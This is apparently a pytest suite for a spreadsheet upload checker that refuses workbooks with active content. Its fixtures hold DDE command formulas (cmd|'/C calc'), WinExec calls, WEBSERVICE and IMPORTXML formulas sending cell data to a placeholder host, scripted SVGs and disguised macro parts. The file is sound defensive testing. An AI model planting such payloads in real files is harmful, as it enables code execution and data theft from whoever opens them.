"""Nothing that acts when it is opened goes on to anybody: parts by content type and relation, formulas wherever they stand."""

from __future__ import annotations

import gzip
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from kpis.errors import StepRefused
from kpis.languages import both, written
from kpis.store.store import Store
from loaders.files.reach import reach_of
from loaders.workbook.annotate import mark_problems
from loaders.workbook.door import handed_on, is_bureau_workbook, read_workbook
from tests.loaders.filled import F, filled, make_store, part_of, template

pytestmark = pytest.mark.edition
Parts = dict[str, bytes]
Change = Callable[[Parts], None]
MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml."
VML, DRAWING = (f"application/vnd.openxmlformats-officedocument.{kind}" for kind in ("vmlDrawing", "drawing+xml"))
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def part(name: str, content: bytes, kind: str, relation: str = "", *, of: str = "xl/_rels/workbook.xml.rels") -> Change:
    """Add a part with its content type, and a relation to it where one is named."""

    def change(parts: Parts) -> None:
        parts[name] = content
        if kind:
            override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override)
        if relation:
            target(relation, f"/{name}", of=of)(parts)

    return change


def target(relation: str, place: str, mode: str = "", *, of: str = "xl/_rels/workbook.xml.rels") -> Change:
    """Add a relation."""

    def change(parts: Parts) -> None:
        told = (
            f'<Relationship Id="rIdX{len(parts.get(of, b""))}" Type="{relation}" Target="{place}"{mode}/></Relationships>'.encode()
        )
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[of] = parts.get(of, empty).replace(b"</Relationships>", told)

    return change


def in_part(name: str, old: bytes, new: bytes) -> Change:
    def change(parts: Parts) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


def of_sheet(change: Callable[[str], Change]) -> Change:
    def on(parts: Parts) -> None:
        change(part_of(made_of(parts), F))(parts)

    return on


def parts_of(content: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def made_of(parts: Parts) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def after_data(xml: bytes) -> Change:
    return of_sheet(lambda name: in_part(name, b"</sheetData>", b"</sheetData>" + xml))


def without_kinds(parts: Parts) -> None:
    """Take the list of content types out."""
    del parts["[Content_Types].xml"]


def vml(inner: str) -> Change:
    """Add a drawing of notes."""
    return part("xl/drawings/v.vml", f'<xml xmlns:v="urn:v" xmlns:x="urn:x">{inner}</xml>'.encode(), VML)


def svg(inner: bytes) -> Change:
    """Add a picture that is drawn by lines."""
    head = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    return part("xl/media/i.svg", head + inner + b"</svg>", "image/svg+xml")


BOOK, RELATIONS, BEGIN = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels"


def other_book(parts: Parts) -> None:
    """Add a second workbook with its own list of sheets, as whoever wants a reviewer to see other figures would."""
    part("xl/book.xml", parts[BOOK], f"{MAIN}sheet.main+xml")(parts)
    parts["xl/_rels/book.xml.rels"] = parts[RELATIONS]


def that_opens(kind: bytes) -> Change:
    """Let the file begin with another part than the workbook that is read, which is of another kind."""

    def change(parts: Parts) -> None:
        parts["xl/book.xml"] = parts[BOOK]
        in_part(BEGIN, BOOK.encode(), b"xl/book.xml")(parts)
        part("xl/book.xml", parts[BOOK], kind.decode())(parts)

    return change


def by_its_ending(parts: Parts) -> None:
    """Add a second workbook whose kind its ending gives."""
    kind = f'<Default Extension="wb" ContentType="{MAIN}sheet.main+xml"/><Override'.encode()
    in_part("[Content_Types].xml", b"<Override", kind)(parts)
    parts["xl/book.wb"] = b"<x/>"


def relations_of(sheet: str) -> Change:
    """Give two relations of a sheet one Id."""
    kind = f"{OFFICE}hyperlink"
    relation = f'<Relationship Id="a" Type="{kind}" Target="https://example.org" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return lambda parts: parts.update(
        {f"xl/worksheets/_rels/{Path(sheet).name}.rels": f'<Relationships xmlns="{space}">{relation * 2}</Relationships>'.encode()}
    )


def doubled(name: str, sign: bytes, old: bytes = b"", new: bytes = b"") -> Change:
    """Repeat the element with a sign, changed."""

    def change(parts: Parts) -> None:
        element = next(e for e in re.findall(rb"<[^<>]*/>", parts[name]) if sign in e)
        parts[name] = parts[name].replace(element, element + element.replace(old, new), 1)

    return change


EXTERNAL = ' TargetMode="External"'
MASHUP = '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
REFUSED: dict[str, tuple[Change, str]] = {
    "macros under another name": (part("xl/printer.bin", b"x", "application/vnd.ms-office.vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "macros"),
    "a workbook that says it has macros": (in_part("[Content_Types].xml", f"{MAIN}sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    "a macro sheet among the worksheets": (part("xl/worksheets/sheet77.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"), "macro sheet"),
    "a DDE link with a capital": (part("xl/ExternalLinks/e1.xml", b"<externalLink/>", f"{MAIN}externalLink+xml", f"{OFFICE}externalLink"), "links"),
    "an external link that is called a theme": (part("xl/theme/theme9.xml", b"<externalLink/>", f"{MAIN}externalLink+xml"), "links"),
    "an external link without a type": (part("xl/externalLinks/externalLink1.xml", b"<externalLink/>", ""), "links"),
    "connections": (part("xl/c.xml", b"<connections/>", f"{MAIN}connections+xml", f"{OFFICE}connections"), "connection"),
    "a query": (part("xl/q.xml", b"<queryTable/>", f"{MAIN}queryTable+xml"), "connection"),
    "a ribbon of its own": (part("ribbon/r.xml", b"<customUI/>", "application/xml", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", of="_rels/.rels"), "ribbon"),
    "a ribbon in the folder of custom data": (part("customXml/r.xml", b"<customUI/>", "", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", of="_rels/.rels"), "ribbon"),
    "a web extension": (part("xl/we.xml", b"<x/>", "application/vnd.ms-office.webextension+xml"), "add-in"),
    "an ActiveX control": (part("xl/media/a.png", b"x", "application/vnd.ms-office.activeX"), "embedded"),
    "an OLE object": (part("xl/media/o.png", b"x", "application/vnd.openxmlformats-officedocument.oleObject"), "embedded"),
    "an embedded file as a relation": (target(f"{OFFICE}package", "media/p.png"), "embedded"),
    "data asked for at opening": (part("xl/v.xml", b"<volTypes/>", f"{MAIN}volatileDependencies+xml"), "connection"),
    "a part of an unknown kind": (part("xl/new.bin", b"x", "application/x-something"), "kind that is not known"),
    "a part without a kind": (part("xl/new.exe", b"MZ", ""), "kind that is not known"),
    "a picture that stands elsewhere": (target(f"{OFFICE}image", "http://192.0.2.1/b.png", EXTERNAL), "links"),
    "a picture on a share": (target(f"{OFFICE}image", "\\\\192.0.2.1\\b.png", EXTERNAL), "links"),
    "a template that stands elsewhere": (target(f"{OFFICE}attachedTemplate", "http://192.0.2.1/t", EXTERNAL), "not known"),
    "a link that starts a program": (target(f"{OFFICE}hyperlink", "ms-excel:ofe|u|http://192.0.2.1", EXTERNAL), "than the web"),
    "a link to a share": (target(f"{OFFICE}hyperlink", "file:///\\\\192.0.2.1\\x", EXTERNAL), "than the web"),
    "DDE in a name": (in_part("xl/workbook.xml", b"</sheets>", b"</sheets><definedNames><definedName name=\"a\">cmd|'/C calc'!A0</definedName></definedNames>"), "DDE"),
    "a macro in a name": (in_part("xl/workbook.xml", b"</sheets>", b'</sheets><definedNames><definedName name="a" xlm="1">A1</definedName></definedNames>'), "RUN"),
    "WEBSERVICE in a conditional format": (after_data(b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://x/"&amp;A1)=1</formula></cfRule></conditionalFormatting>'), "WEBSERVICE"),
    "another workbook in a check of a cell": (after_data(b'<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]Sheet1!A1</formula1></dataValidation></dataValidations>'), "another workbook"),
    "RTD in an extension": (after_data(b'<extLst><ext xmlns:x14="urn:x14" xmlns:xm="urn:xm"><x14:dataValidation><x14:formula1><xm:f>RTD("a",,"b")</xm:f></x14:formula1></x14:dataValidation></ext></extLst>'), "RTD"),
    "another workbook in a chart": (part("xl/charts/chart1.xml", b'<c:chart xmlns:c="urn:c"><c:f>[2]S!$A$1</c:f></c:chart>', "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"), "another workbook"),
    "a text box that reads another workbook": (part("xl/drawings/d.xml", b'<d:sp xmlns:d="urn:d" textlink="[3]S!A1"/>', "application/vnd.openxmlformats-officedocument.drawing+xml"), "another workbook"),
    "a text box that starts a macro of another workbook": (part("xl/drawings/d.xml", b'<d:sp xmlns:d="urn:d" macro="[3]!Go"/>', "application/vnd.openxmlformats-officedocument.drawing+xml"), "another workbook"),
    "a query among custom data": (part("customXml/item7.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', "", f"{OFFICE}customXml"), "connection"),
    "a query among custom data as Excel writes it": (part("customXml/item7.xml", MASHUP.encode("utf-16"), "", f"{OFFICE}customXml"), "connection"),
    "a document type in UTF-16": (part("customXml/item7.xml", f'<!DOCTYPE a [<!ENTITY b "c">]>{MASHUP.partition("?>")[2]}'.encode("utf-16-le"), "", f"{OFFICE}customXml"), "document type"),
    "a part in UTF-16 without its mark": (part("xl/theme/theme9.xml", "<a/>".encode("utf-16-le"), f"{MAIN}theme+xml"), "UTF-8"),
    "a picture of a note that stands elsewhere": (part("xl/drawings/v.vml", b'<xml><v:fill o:href="http://192.0.2.1/x"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing"), "embedded"),
    "a picture of a note that stands elsewhere, in references to letters": (vml('<v:fill src="&#104;ttp&#x3a;//192.0.2.1/x"/>'), "embedded"),
    "a picture of a note on a share, in references to letters": (vml('<v:imagedata src="&#92;&#92;192.0.2.1\\b.png"/>'), "embedded"),
    "a picture of a note that stands elsewhere, far behind its name": (vml(f'<v:fill src{" " * 30}={" " * 30}"{" " * 30}http://192.0.2.1/x"/>'), "embedded"),
    "a picture of a note that a longer scheme names": (vml('<v:shape href="search-ms:query=x&amp;crumb=location:192.0.2.1"/>'), "embedded"),
    "a picture of a note within a style": (vml('<v:shape style="background:url( http://192.0.2.1/x )"/>'), "embedded"),
    "a document type in a note": (part("xl/drawings/v.bin", b'<!DOCTYPE xml [<!ENTITY a "http://192.0.2.1/">]><xml><v:fill src="&a;"/></xml>', VML), "embedded"),
    "a note that starts a macro of another workbook": (vml("<x:ClientData><x:FmlaMacro>'\\\\192.0.2.1\\[b.xls]S'!Go</x:FmlaMacro></x:ClientData>"), "another workbook"),
    "a note that shows another workbook, in references to letters": (vml("<x:FmlaPict >&#91;3&#93;S!A1</x:FmlaPict>"), "another workbook"),
    "a note whose formula stands in CDATA": (vml("<x:FmlaTxbx><![CDATA[cmd|'/C calc'!A0]]></x:FmlaTxbx>"), "DDE"),
    "a formula of a note with a comment within it": (vml("<x:FmlaMacro>'\\\\192.0.2.1\\[b.xls<!-- -->]S'!Go</x:FmlaMacro>"), "embedded"),
    "a formula of a note with an attribute": (vml("<x:FmlaMacro a='>\"'>cmd|'/C calc\"'!A0</x:FmlaMacro>"), "embedded"),
    "a formula of a note behind a long prefix": (vml(f"<{'p' * 200}:FmlaMacro xmlns:{'p' * 200}='urn:x'>[1]!Go</{'p' * 200}:FmlaMacro>"), "embedded"),
    "an object of a note behind a long prefix": (vml(f"<{'p' * 200}:OLEObject/>"), "embedded"),
    "a document type where no name tells of XML": (part("xl/drawings/d.dat", b'<!DOCTYPE d [<!ENTITY a "x">]><d:sp xmlns:d="urn:d" textlink="&a;"/>', DRAWING), "document type"),
    "a formula of a pivot table": (part("xl/p.xml", b'<p:cacheField xmlns:p="urn:p" name="a" formula="WEBSERVICE(A1)"/>', f"{MAIN}pivotCacheDefinition+xml"), "WEBSERVICE"),
    "a sheet that is published at each saving": (after_data(b'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\192.0.2.1\\a.htm" autoRepublish="1"/></webPublishItems>'), "is published"),
    "a workbook that is published at each saving": (in_part("xl/workbook.xml", b"</workbook>", b'<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="http://192.0.2.1/a.htm" autoRepublish="1"/></webPublishObjects></workbook>'), "is published"),
    "a picture that is a program": (part("xl/media/i.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n", "image/x-eps"), "picture that"),
    "a program that is called a picture": (part("xl/media/i.png", b"\xc5\xd0\xd3\xc6\x1e", "image/png"), "picture that"),
    "a picture that asks another machine": (svg(b'<image xlink:href="http://192.0.2.1/x.png"/>'), "picture that"),
    "a picture that asks a share": (svg(b'<feImage href="\\\\192.0.2.1\\x.png"/>'), "picture that"),
    "a picture with a script": (svg(b"<script>alert(1)</script>"), "picture that"),
    "a picture that acts when it is shown": (svg(b'<g onload="alert(1)"/>'), "picture that"),
    "a picture whose look stands elsewhere": (svg(b'<style>@import "//192.0.2.1/x.css";</style>'), "picture that"),
    "a picture whose fill stands elsewhere": (svg(b'<g style="fill:url(http://192.0.2.1/x.svg#a)"/>'), "picture that"),
    "a picture with a document type": (part("xl/media/i.svg", b'<!DOCTYPE svg SYSTEM "http://192.0.2.1/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"), "picture that"),
    "a picture with a style sheet that stands elsewhere": (part("xl/media/i.svg", b'<?xml-stylesheet href="http://192.0.2.1/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"), "picture that"),
    "a drawing that is called a photograph": (part("xl/media/i.png", b'\xef\xbb\xbf <svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "image/png"), "picture that"),
    "a packed drawing": (part("xl/media/i.emz", gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), "image/x-emz"), "picture that"),
    "no list of kinds": (without_kinds, "Content_Types"),
    "two workbooks": (other_book, "one and only workbook (xl/workbook.xml, xl/book.xml)"),
    "a workbook that another program opens": (that_opens(b"application/xml"), "_rels/.rels: xl/workbook.xml is not"),
    "no workbook by which the file begins": (in_part(BEGIN, b"/officeDocument\"", b"/other\""), "_rels/.rels: xl/workbook.xml is not"),
    "two parts by which the file begins": (target(f"{OFFICE}officeDocument", "/xl/book.xml", of=BEGIN), "_rels/.rels: xl/workbook.xml is not"),
    "a second workbook by its ending": (by_its_ending, "xl/book.wb"),
    "two kinds of one part": (doubled("[Content_Types].xml", b'"/xl/styles.xml"'), "‘xl/styles.xml’ is listed twice"),
    "two relations of one Id": (doubled(RELATIONS, b"worksheets/sheet2.xml", b"sheet2.xml", b"sheet3.xml"), "is listed twice"),
    "two relations of a sheet of one Id": (of_sheet(relations_of), "‘a’ is listed twice"),
    "a relation in other words": (in_part(RELATIONS, b"</Relationships>", b'<Other Id="o" Type="t" Target="styles.xml"/></Relationships>'), "in another form"),
    "two lists of formats": (target(f"{OFFICE}styles", "/xl/styles2.xml"), "‘styles’, where there is one"),
    "formats under a name that only others understand": (in_part(RELATIONS, b"styles.xml", b"styl%65s.xml"), "styl%65s.xml: missing"),
    "formats that stand elsewhere": (in_part(RELATIONS, b"styles.xml\"", b'styles.xml" TargetMode="External"'), "missing"),
    "sheets listed in two places": (in_part(BOOK, b"</sheets>", b'</sheets><extLst><sheets><sheet name="b" sheetId="9"/></sheets></extLst>'), "listed elsewhere"),
    "a sheet that is listed without its part": (in_part(BOOK, b"</sheets>", b'<sheet name="b" sheetId="99"/></sheets>'), "missing"),
    "two starts of counting days": (in_part(BOOK, b"<sheets>", b'<workbookPr/><workbookPr date1904="1"/><sheets>'), "‘workbookPr’, where there is one"),
}  # fmt: skip
FORMULAS = [
    "WEBSERVICE(\"http://192.0.2.1/?\"&A1)", "_xlfn.WEBSERVICE(A1)", "webservice (A1)", "cmd|'/C calc'!A0", "'cmd'|'/C calc'!A0", "RTD(\"a\",,\"b\")",
    "HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")", "_xlfn.IMAGE(\"http://192.0.2.1/\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    "[1]Sheet1!A1", "SUM([2]S!A1:A9)", "'[book.xlsx]S'!A1", "'C:\\x\\[b.xlsx]S'!A1", "'\\\\192.0.2.1\\x\\b.xlsx'!n", "CUBEVALUE(\"c\",\"m\")",
    "_xll.GO()", "1+REGISTER.ID(\"a\",\"b\")", "DDE(\"soffice\";\"x\";\"y\")", "IF(TRUE,[1]!n)", "_xlfn._xlws.PY(0,0)",
    "Table1['#x]&WEBSERVICE(A1)&\"'\"", "SUM(Table1[['#a]:['#b]])&WEBSERVICE(A1)&\"'\"", "_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)", f"WEBSERVICE{' ' * 150}(A1)",
    "Table1[a\"b]&WEBSERVICE(A1)&Table1[c\"d]", "Table1['[]&WEBSERVICE(A1)", "IMPORTTEXT(\"http://192.0.2.1/\")", "_xlfn.IMPORTCSV(A1)",
    "IMPORTXML(\"http://192.0.2.1/?\"&A1,\"//a\")", "importdata(A1)", "IMPORTRANGE(\"x\",\"A1\")", "GOOGLETRANSLATE(A1)", "AI(\"x\",A1:B9)",
    "_xlfn.MAP(A1:A9,_xleta.IMPORTTEXT)",
]  # fmt: skip
HARMLESS = [
    "SUM(A1:A9)", "Table1[2022]", "表1[[#This Row],[2022]:[2023]]", "IF(A1=\"a|b\",1,2)", "'a|b'!A1", "\"WEBSERVICE(\"&A1", "SUM(Table1[[#All],[1]])",
    "A1/B1", "IMPORTED(A1)", "AIR(A1)", "SUM(AI1:AI9)", "AI1*(2)", "TEXT(A1,\"[h]:mm\")", "'Jan:Mar'!A1", "VLOOKUP(A1,S!A:B,2,0)", "MYHYPERLINK(A1)", "Table1['[1'#]]/2", "Table1[it''s]/Table1[IMAGE]", "_xlfn.MAP(A1:A9,_xleta.SUM)", "LAMBDA(x,x+1)(2)", "\"\"", "",
]  # fmt: skip


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, bytes]]:
    store = make_store(Path(tmp_path_factory.mktemp("active")))
    yield store, filled(template(store))


@pytest.mark.parametrize("name", REFUSED)
def test_a_workbook_that_would_act_is_refused_and_named(name: str, sound: tuple[Store, bytes]) -> None:
    store, content = sound
    change, named = REFUSED[name]
    parts = parts_of(content)
    change(parts)
    reading = read_workbook(made_of(parts), store=store)
    (problem,) = reading.problems
    assert named in both(problem.found) and reading.mark is None
    assert all(written(m, code) for m in (problem.expected, problem.remedy) for code in ("ja", "en"))


def with_cell_of_figures(content: bytes, cell: bytes) -> bytes:
    """Return a report with its cell H7 of the figures as this XML."""
    parts, name = parts_of(content), part_of(content, F)
    parts[name], count = re.subn(rb'<c r="H7"[^>]*?(?:/>|>.*?</c>)', lambda _: cell, parts[name])
    assert count == 1
    return made_of(parts)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_reaches_outside_is_told(formula: str) -> None:
    assert reach_of(formula) is not None


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_of_the_workbook_itself_is_none(formula: str) -> None:
    assert reach_of(formula) is None


def test_a_formula_that_acts_is_named_at_its_cell_and_not_in_the_marked_workbook(sound: tuple[Store, bytes]) -> None:
    store, content = sound
    name, made = part_of(content, F), with_cell_of_figures(content, b"<c r=\"H7\"><f>cmd|'/C calc'!A0</f><v>5</v></c>")
    problems = read_workbook(made, store=store).problems
    assert [(p.kind, p.sheet, p.cell) for p in problems] == [("formula", F, "H7")] and "DDE" in both(problems[0].found)
    assert is_bureau_workbook(made)
    marked = mark_problems(made, problems)
    assert b"calc" not in parts_of(marked)[name]
    assert [(p.kind, p.cell) for p in read_workbook(marked, store=store).errors] == [
        ("error_cell", "H7")
    ]  # and its value counts for nothing


def test_an_original_kept_before_goes_on_only_where_nothing_in_it_acts(sound: tuple[Store, bytes]) -> None:
    _, content = sound
    assert handed_on(content) == content
    parts = parts_of(content)
    REFUSED["a DDE link with a capital"][0](parts)
    with pytest.raises(StepRefused, match="links to other workbooks"):
        handed_on(made_of(parts))
    assert is_bureau_workbook(made_of(parts))  # so that it is refused as one, by name
    with pytest.raises(StepRefused, match="links to other workbooks"):
        mark_problems(made_of(parts), [])


def test_a_workbook_with_links_to_the_web_and_a_sensitivity_label_is_read(sound: tuple[Store, bytes]) -> None:
    store, content = sound
    parts = parts_of(content)
    for change in (
        target(f"{OFFICE}hyperlink", "https://example.org/a", EXTERNAL), target(f"{OFFICE}hyperlink", "mailto:a@example.org", EXTERNAL),
        part("docMetadata/LabelInfo.xml", b"<x/>", "application/vnd.ms-office.classificationlabels+xml", "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels", of="_rels/.rels"),
        part("customXml/item1.xml", b"<x/>", "", f"{OFFICE}customXml"),
        vml('<v:shape type="#t" style="background:url(#a)"><v:imagedata o:relid="rId1"/><x:ClientData><x:FmlaLink>$A$1</x:FmlaLink></x:ClientData></v:shape>'),
        svg(b'<style>.a{fill:url(#b)}</style><use xlink:href="#b"/><a xlink:href=""/><image href="data:image/png;base64,AAAA"/><text>http://example.org onload=</text>'),
        part("xl/media/i.png", b"\x89PNG", "image/png"), part("xl/media/i.emz", gzip.compress(b"\x01\0\0\0"), "image/x-emz"),
        part("xl/drawings/d.xml", b'<d:sp xmlns:d="urn:d" macro="[0]!Left" textlink=""/>', "application/vnd.openxmlformats-officedocument.drawing+xml"),
    ):  # fmt: skip
        change(parts)
    assert read_workbook(made_of(parts), store=store).errors == []
